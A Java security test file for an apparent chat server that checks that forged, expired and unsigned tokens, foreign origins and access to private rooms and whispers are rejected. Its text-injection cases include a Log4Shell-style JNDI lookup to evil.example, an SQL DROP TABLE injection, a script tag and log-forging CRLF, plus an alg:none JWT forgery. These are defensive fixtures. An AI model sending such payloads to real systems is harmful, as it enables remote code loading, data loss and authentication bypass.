package org.dungeontalk.faults;

import static java.nio.charset.StandardCharsets.UTF_8;

import com.fasterxml.jackson.databind.JsonNode;
import java.time.Duration;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.concurrent.BlockingQueue;
import java.util.concurrent.LinkedBlockingQueue;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.TimeoutException;
import org.apache.kafka.clients.producer.KafkaProducer;
import org.apache.kafka.clients.producer.ProducerRecord;
import org.apache.kafka.common.serialization.StringSerializer;
import org.dungeontalk.faults.probe.Await;
import org.dungeontalk.load.player.StompPlayer;

/** The attempts at what is not allowed, by row. */
final class IntrusionCases {

    private static final String OTHER_SECRET = "another-secret-of-sufficient-length-0123456789";
    private static final String FOREIGN = "https://evil.example";
    private static final List<String> ALL_ROOMS = List.of();
    private static final int MINUTES = 600;
    private static final int TOKEN_SECONDS = 3;
    private static final Duration CLOSED_WITHIN = Duration.ofSeconds(5);

    /** Is found in a log however the rest is escaped. */
    private static final String MARK = "kingfisher-20";

    private static final String ALOUD = "Good evening, all of you.";
    private static final String OWN = "inn-of-the-intruder";
    private static final String PRIVATE = "private-room";

    private IntrusionCases() {}

    /** W10: foreign pages, and tokens that this stack did not sign or that are over. */
    static List<Intrusion> tokens() {
        return List.of(
                new Intrusion("a page's origin", "403", i -> i.handshake(FOREIGN, good(i))),
                new Intrusion("the origin null", "403", i -> i.handshake("null", good(i))),
                new Intrusion("an expired token", "401", i -> shaken(i, expired(i))),
                new Intrusion("a forged token", "401", i -> shaken(i, forged(i))),
                new Intrusion("alg: none", "401", i -> shaken(i, unsigned(i))),
                new Intrusion("CONNECT without a token", "4005", i -> i.connect("")),
                new Intrusion("CONNECT, expired", "4005", i -> i.connect(bearer(expired(i)))),
                new Intrusion("CONNECT, forged", "4005", i -> i.connect(bearer(forged(i)))),
                new Intrusion("CONNECT, alg: none", "4005", i -> i.connect(bearer(unsigned(i)))));
    }

    /** W11: what ends or begins while a player is connected. */
    static List<Intrusion> rulings() {
        return List.of(
                new Intrusion("a token that expires", "4004", IntrusionCases::expiring),
                new Intrusion("a token that is revoked", "4008", IntrusionCases::revoked),
                new Intrusion("a muted player", "MUTED, then RECEIPT", IntrusionCases::muted));
    }

    /** W12: other people's names, rooms and whispers. */
    static List<Intrusion> identities() {
        return List.of(
                new Intrusion("another's id", "NOT_YOUR_ID", IntrusionCases::claim),
                new Intrusion("SUBSCRIBE, private room", "ROOM_FORBIDDEN", IntrusionCases::enter),
                new Intrusion("SEND, private room", "ROOM_FORBIDDEN", IntrusionCases::talkInside),
                new Intrusion("presence, private room", "403", IntrusionCases::look),
                new Intrusion("history, private room", "403", IntrusionCases::readHistory),
                new Intrusion("a player's messages", "403", IntrusionCases::moderate),
                new Intrusion("a mute", "403", IntrusionCases::mute),
                new Intrusion("others' whisper", "unheard", IntrusionCases::overhear));
    }

    /** W14: text that would like to be more than text. */
    static List<Intrusion> texts() {
        return List.of(
                verbatim("CR and LF", "one line\r\nFATAL another line"),
                verbatim("ANSI", "text \u001b[31mred \u001b[2J"),
                verbatim("HTML", "<script>alert('in')</script>&lt;"),
                verbatim("a template", "${jndi:ldap://evil.example/x} {{7*7}} %s %n"),
                verbatim("SQL", "'); DROP TABLE persistence.message; --"));
    }

    private static Intrusion verbatim(String name, String inside) {
        String text = MARK + " " + inside;
        return new Intrusion(
                name,
                text + " | " + text,
                i -> {
                    i.secret(MARK);
                    String room = "verbatim-" + name.replace(' ', '-');
                    String token = good(i);
                    BlockingQueue<String> read = new LinkedBlockingQueue<>();
                    try (StompPlayer player = i.player(token)) {
                        Intruder.code(
                                player.subscribe(
                                        "/sub/chat/room/" + room, frame -> read.add(frame.body())));
                        i.talk(player, room, text);
                        List<String> bodies = until(MARK, read);
                        JsonNode live = Intruder.JSON.readTree(bodies.get(bodies.size() - 1));
                        JsonNode stored = i.history(room, 1, token).path(0);
                        return live.path("content").asText()
                                + " | "
                                + stored.path("content").asText();
                    }
                });
    }

    private static String expiring(Intruder i) throws Exception {
        return end(i, i.token("short", TOKEN_SECONDS, ALL_ROOMS), () -> {}, TOKEN_SECONDS);
    }

    private static String revoked(Intruder i) throws Exception {
        String now = Instant.now().truncatedTo(ChronoUnit.SECONDS).toString();
        String record =
                Intruder.JSON
                        .createObjectNode()
                        .put("playerId", "revoked")
                        .put("notBefore", now)
                        .put("by", "op-1")
                        .put("at", now)
                        .toString();
        return end(
                i,
                i.token("revoked", MINUTES, ALL_ROOMS),
                () -> {
                    try (KafkaProducer<String, String> producer =
                            new KafkaProducer<>(
                                    Map.of(
                                            "bootstrap.servers",
                                            i.stack().kafka().bootstrapServers()),
                                    new StringSerializer(),
                                    new StringSerializer())) {
                        producer.send(new ProducerRecord<>("revocations", "revoked", record)).get();
                    }
                },
                0);
    }

    private interface Event {
        void happens() throws Exception;
    }

    private static String end(Intruder i, String token, Event event, int later) throws Exception {
        try (RawSocket socket = RawSocket.connected(i.stack(), token)) {
            event.happens();
            return Integer.toString(socket.awaitEnd(CLOSED_WITHIN.plusSeconds(later)));
        }
    }

    private static String muted(Intruder i) throws Exception {
        String moderator = i.token("moderator", MINUTES, ALL_ROOMS, "moderator");
        String path = "/api/analytics/mutes/loud";
        try (StompPlayer player = i.player(i.token("loud", MINUTES, ALL_ROOMS))) {
            i.status(
                    "analytics", "PUT", path, "{\"minutes\":10,\"reason\":\"row W11\"}", moderator);
            String after = answerAfterASecond(i, player, "MUTED");
            i.status("analytics", "DELETE", path, "", moderator);
            return after + ", then " + answerAfterASecond(i, player, "RECEIPT");
        }
    }

    private static String answerAfterASecond(Intruder i, StompPlayer player, String due)
            throws Exception {
        return Await.answer(
                Duration.ofSeconds(1),
                Duration.ofMillis(100),
                () -> i.talk(player, OWN, "May I still speak?"),
                due::equals);
    }

    private static String claim(Intruder i) throws Exception {
        try (StompPlayer player = i.player(good(i))) {
            return i.send(
                    player,
                    "{\"roomId\":\"%s\",\"type\":\"TALK\",\"senderId\":\"tomas\",\"content\":\"I am Tomas\"}"
                            .formatted(OWN));
        }
    }

    private static String enter(Intruder i) throws Exception {
        try (StompPlayer player = i.player(guest(i))) {
            return Intruder.code(player.subscribe("/sub/chat/room/" + PRIVATE, frame -> {}));
        }
    }

    private static String talkInside(Intruder i) throws Exception {
        try (StompPlayer player = i.player(guest(i))) {
            return i.talk(player, PRIVATE, "Is anybody in there?");
        }
    }

    private static String look(Intruder i) throws Exception {
        return i.status("gateway-1", "GET", "/api/rooms/" + PRIVATE + "/presence", "", guest(i));
    }

    private static String readHistory(Intruder i) throws Exception {
        String path = "/api/chat/room/" + PRIVATE + "/messages";
        return i.status("persistence", "GET", path, "", guest(i));
    }

    private static String moderate(Intruder i) throws Exception {
        String path = "/api/moderation/player/tomas/messages";
        return i.status("persistence", "GET", path, "", guest(i));
    }

    private static String mute(Intruder i) throws Exception {
        String path = "/api/analytics/mutes/tomas";
        return i.status("analytics", "PUT", path, "{\"minutes\":10,\"reason\":\"why\"}", guest(i));
    }

    /** A member of the room reads what is said aloud after a whisper, but not the whisper. */
    private static String overhear(Intruder i) throws Exception {
        String eve = i.token("eve", MINUTES, ALL_ROOMS);
        BlockingQueue<String> read = new LinkedBlockingQueue<>();
        try (StompPlayer mira = i.player(i.token("mira", MINUTES, ALL_ROOMS));
                StompPlayer listener = i.player(eve)) {
            Intruder.code(
                    listener.subscribe("/sub/chat/room/whispers", frame -> read.add(frame.body())));
            String whisper = i.secret("The innkeeper lies to you.");
            i.send(
                    mira,
                    "{\"roomId\":\"whispers\",\"type\":\"TALK\",\"receiverId\":\"tomas\",\"content\":\"%s\"}"
                            .formatted(whisper));
            i.talk(mira, "whispers", ALOUD);
            String live = until(ALOUD, read).toString();
            String stored = i.history("whispers", 1, eve).toString();
            return (live + stored).contains(whisper) ? "heard" : "unheard";
        }
    }

    /** What comes until a body has these words. There are presence frames too. */
    private static List<String> until(String words, BlockingQueue<String> read) throws Exception {
        List<String> bodies = new ArrayList<>();
        do {
            String body = read.poll(5, TimeUnit.SECONDS);
            if (body == null) {
                throw new TimeoutException("Never read: " + words);
            }
            bodies.add(body);
        } while (!bodies.get(bodies.size() - 1).contains(words));
        return bodies;
    }

    private static String shaken(Intruder i, String token) throws Exception {
        String own = "http://127.0.0.1:" + i.stack().service("gateway-1").plan().httpPort();
        return i.handshake(own, token);
    }

    private static String bearer(String token) {
        return "Authorization:Bearer " + token + "\n";
    }

    private static String good(Intruder i) throws Exception {
        return i.token("mira", MINUTES, ALL_ROOMS);
    }

    /** May enter one room. */
    private static String guest(Intruder i) throws Exception {
        return i.token("guest", MINUTES, List.of(OWN));
    }

    /** Over for longer than clocks may differ. */
    private static String expired(Intruder i) throws Exception {
        return i.token("mira", -50, ALL_ROOMS);
    }

    private static String forged(Intruder i) {
        return i.token(OTHER_SECRET, "mira", MINUTES, ALL_ROOMS);
    }

    private static String unsigned(Intruder i) {
        return i.secret(part("{\"alg\":\"none\"}") + part("{\"id\":\"mira\",\"exp\":9999999999}"));
    }

    private static String part(String json) {
        return Base64.getUrlEncoder().withoutPadding().encodeToString(json.getBytes(UTF_8)) + ".";
    }
}
